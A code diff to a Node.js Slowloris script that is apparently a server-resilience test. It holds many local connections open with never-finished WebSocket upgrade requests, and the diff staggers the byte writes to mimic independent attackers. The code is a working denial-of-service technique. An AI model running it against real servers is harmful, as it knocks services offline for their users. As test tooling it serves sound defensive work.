@@ -1,7 +1,7 @@
 // Slowloris from its own process (B14): for each target, `perTarget` TCP connections that each
-// send one byte of an upgrade request head every second and never finish it. Prints
-// {"opened":true} once every connection has sent its first byte, then, when all are closed by the
-// servers (or after `maxMs`), one summary line per run, and exits.
+// send one byte of an upgrade request head every second (each at its own phase within the second)
+// and never finish it. Prints {"opened":true} once every connection has sent its first byte, then,
+// when all are closed by the servers (or after `maxMs`), one summary line per target, and exits.
 //
 //   node slowloris.mjs '<json: { targets: [{ name, port, path }], perTarget, maxMs }>'
 import { connect } from 'node:net';
@@ -21,17 +21,20 @@ function open(target) {
 }
 
 const heads = new Map(targets.map((t) => [t.name, `GET ${t.path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n`]));
-let step = 0;
+// Independent attackers do not write in step: each connection has its own phase within the
+// second, and every 100 ms the tenth of them whose turn it is writes its next byte.
+let turn = 0;
 function dribble() {
   const now = performance.now();
-  for (const c of conns) {
+  for (let i = turn % 10; i < conns.length; i += 10) {
+    const c = conns[i];
     if (c.closedAt !== undefined || c.socket.destroyed) continue;
     const head = heads.get(c.target);
     if (c.firstByteAt === 0) c.firstByteAt = now;
     c.socket.write(head[Math.min(c.sent ?? 0, head.length - 1)]);
     c.sent = (c.sent ?? 0) + 1;
   }
-  step += 1;
+  turn += 1;
 }
 
 // in steps of 50 per target (a burst would overflow the listen backlog of 511)
@@ -39,9 +42,10 @@ for (let i = 0; i < perTarget; i += 50) {
   const batch = await Promise.all(targets.flatMap((t) => Array.from({ length: Math.min(50, perTarget - i) }, () => open(t))));
   conns.push(...batch);
 }
+const timer = setInterval(dribble, 100);
 dribble();
+await new Promise((resolve) => setTimeout(resolve, 1_000));
 console.log(JSON.stringify({ opened: true, connections: conns.length }));
-const timer = setInterval(dribble, 1_000);
 const started = performance.now();
 await new Promise((resolve) => {
   const check = setInterval(() => {
